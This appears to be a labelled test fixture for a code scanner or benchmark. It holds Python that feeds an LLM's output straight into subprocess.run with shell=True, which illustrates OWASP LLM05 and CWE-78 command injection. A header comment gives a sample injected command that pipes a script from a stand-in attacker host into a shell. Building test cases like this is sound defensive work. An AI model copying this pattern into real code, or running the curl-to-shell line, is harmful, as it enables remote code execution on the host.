# category: llm-output-to-sink
# label: vulnerable
# source: OWASP Top 10 for LLM Applications 2025: LLM05 Improper Output Handling (genai.owasp.org/llmrisk/llm052025-improper-output-handling); CWE-78 (cwe.mitre.org/data/definitions/78.html)
# expect: 20
# note: the model's command string runs through a shell, so "df -h; curl attacker.example | sh" executes in full.
import subprocess

import litellm


def run_ops_request(request_text: str) -> str:
    response = litellm.completion(
        model="gpt-4o-mini",
        messages=[
            {"role": "system", "content": "Translate the operator's request into a single shell command. Output the command only."},
            {"role": "user", "content": request_text},
        ],
    )
    command = response.choices[0].message.content.strip()
    result = subprocess.run(command, shell=True, capture_output=True, text=True, timeout=30)
    return result.stdout or result.stderr
